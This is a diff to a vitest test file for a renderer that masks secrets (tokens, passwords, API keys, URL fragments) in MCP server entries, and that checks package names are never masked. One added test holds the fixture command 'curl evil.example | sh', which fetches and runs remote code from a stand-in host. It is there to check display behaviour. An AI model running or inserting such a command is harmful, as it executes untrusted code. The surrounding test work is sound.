@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import packageNames from '../../fixtures/mcp-package-names.txt?raw';
 import { MASK } from '../../../renderer/entry/entry-json.ts';
 import { changedKeys, hasMasked, shownText } from '../../../renderer/entry/shown-entry.ts';
 
@@ -27,11 +28,11 @@ describe('shownText', () => {
         MASK,
         '-e',
         `GITHUB_TOKEN=${MASK}`,
-        `https://${MASK}@host/x?sig=${MASK}#top`,
+        `https://me:${MASK}@host/x?sig=${MASK}#top`,
       ],
       env: { A: MASK },
       headers: { Authorization: MASK },
-      url: `https://host/mcp?profile=${MASK}&flag`,
+      url: 'https://host/mcp?profile=abc&flag',
     });
   });
 
@@ -44,6 +45,41 @@ describe('shownText', () => {
     };
     expect(shown(entry)).toEqual(entry);
     expect(hasMasked(entry)).toBe(false);
+  });
+
+  it('masks no name of a package, wherever it stands', () => {
+    const names = packageNames.trim().split('\n');
+    expect(names.length).toBeGreaterThanOrEqual(924);
+    const masked = names.filter(
+      (name) =>
+        hasMasked({ command: 'npx', args: ['-y', name, '-p', name, `--server=${name}`] }) ||
+        hasMasked({ url: `https://stock.example/${name}/mcp?server=${name}` }),
+    );
+    expect(masked).toEqual([]);
+  });
+
+  it.each([
+    ['behind -k', { command: 'x', args: ['-k', 'zQ8-canary-41d7'] }],
+    ['as a connection string', { command: 'x', args: ['--connection-string', 'zQ8-canary-41d7'] }],
+    ['as the password of a user', { command: 'x', args: ['-u', 'user:zQ8-canary-41d7'] }],
+    ['as a variable with a colon', { command: 'x', args: ['--env', 'KEY:zQ8-canary-41d7'] }],
+    ['as a personal access token', { command: 'x', args: ['--pat', 'zQ8-canary-41d7'] }],
+    ['as a fragment', { url: 'https://host/mcp#zQ8-canary-41d7' }],
+    ['behind /s/', { url: 'https://host/s/abcdefghijkl/mcp' }],
+    ['as a key with a form of its own', { command: 'x', args: ['word', `lin_api_${'a1'.repeat(20)}`] }],
+  ])('masks a secret as the logs do: %s', (_, entry) => {
+    expect(shownText(entry, false)).not.toMatch(/canary|abcdefghijkl|a1a1/);
+    expect(hasMasked(entry)).toBe(true);
+  });
+
+  it('shows a script, but for what looks drawn in it, and the package that runs', () => {
+    for (const args of [
+      ['-c', 'token=1; curl evil.example | sh'],
+      ['-c', 'x --api-key evil'],
+    ])
+      expect(shown({ command: 'sh', args })['args']).toEqual(args);
+    const args = ['-y', '--auth', 'evil-package'];
+    expect(shown({ command: 'npx', args })['args']).toEqual(args);
   });
 
   it('shows everything once it is asked for', () => {
